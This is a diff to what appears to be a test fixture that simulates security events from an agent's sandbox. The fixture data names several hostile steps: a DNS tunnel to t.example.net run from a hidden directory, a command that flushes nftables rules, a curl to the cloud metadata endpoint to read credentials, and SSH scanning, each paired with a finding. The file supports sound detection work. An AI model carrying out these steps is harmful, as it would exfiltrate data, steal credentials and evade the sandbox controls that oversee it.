@@ -64,7 +64,9 @@ _CURL: Final = process(
     ancestors=_SHELL,
 )
 _PIP: Final = process(4310, "/usr/bin/python3.13", "python3 -m pip install requests")
-_DIG: Final = process(4400, "/tmp/.x/tun", "/tmp/.x/tun -d t.example.net", ancestors=_SHELL)
+_DIG: Final = process(
+    4400, "/home/agent/.x/tun", "/home/agent/.x/tun -d t.example.net", ancestors=_SHELL
+)
 _NFT: Final = process(4500, "/usr/sbin/nft", "nft flush table inet ocsf_nft", ancestors=_SHELL)
 
 
@@ -85,7 +87,7 @@ def _base(kind: int, time: int, *parts: object, code: str, severity: int) -> Eve
     }
 
 
-def activity(  # noqa: PLR0913 - each is one fact of the event, named at the call
+def activity(
     at: int,
     to: str,
     port: int,
@@ -100,9 +102,7 @@ def activity(  # noqa: PLR0913 - each is one fact of the event, named at the cal
 ) -> Event:
     """Return a Network Activity event ``at`` ms after the begin."""
     time = BEGIN + at
-    event = _base(
-        4001, time, to, port, by and by["pid"], code="egress-blocked", severity=severity
-    )
+    event = _base(4001, time, to, port, by and by["pid"], code="egress-blocked", severity=severity)
     event["metadata"]["correlation_uid"] = uid("flow", sandbox, to, port)
     event |= {
         "activity_id": 1 if allowed else 5,
@@ -121,7 +121,7 @@ def activity(  # noqa: PLR0913 - each is one fact of the event, named at the cal
     return event
 
 
-def finding(  # noqa: PLR0913 - each is one fact of the event, named at the call
+def finding(
     name: str,
     at: int,
     *,
@@ -227,7 +227,7 @@ def events() -> Iterator[Event]:
     for n in range(40):
         yield activity(n * 70 * SECOND, "151.101.0.223", 443, by=_PIP, count=2 + n % 3, severity=2)
     yield activity(12 * MINUTE, "169.254.169.254", 80, by=_CURL, count=6, severity=4)
-    theft = {
+    theft: dict[str, Any] = {
         "code": "cloud-metadata-finding",
         "title": "curl tried to read cloud credentials; the fence blocked it",
         "remediation": "Rotate nothing: no packet left. Stop process 4242 in container agent-7 and "
@@ -250,8 +250,8 @@ def events() -> Iterator[Event]:
     yield finding(
         "tunnel", 21 * MINUTE, since=16 * MINUTE, count=300, code="dns-tunnel-finding",
         title="tun sent 300 distinct names below t.example.net: DNS tunnel",
-        remediation="Stop process 4400 (/tmp/.x/tun), keep the file, and search for its hash on "
-        "other hosts.", by=(_DIG,), to=(("8.8.8.8", 53),),
+        remediation="Stop process 4400 (/home/agent/.x/tun), keep the file, and search for its "
+        "hash on other hosts.", by=(_DIG,), to=(("8.8.8.8", 53),),
     )  # fmt: skip
     for n, each in enumerate(scanners()):
         yield activity(25 * MINUTE + n * 200, f"10.0.0.{n}", 22, by=each, count=40)
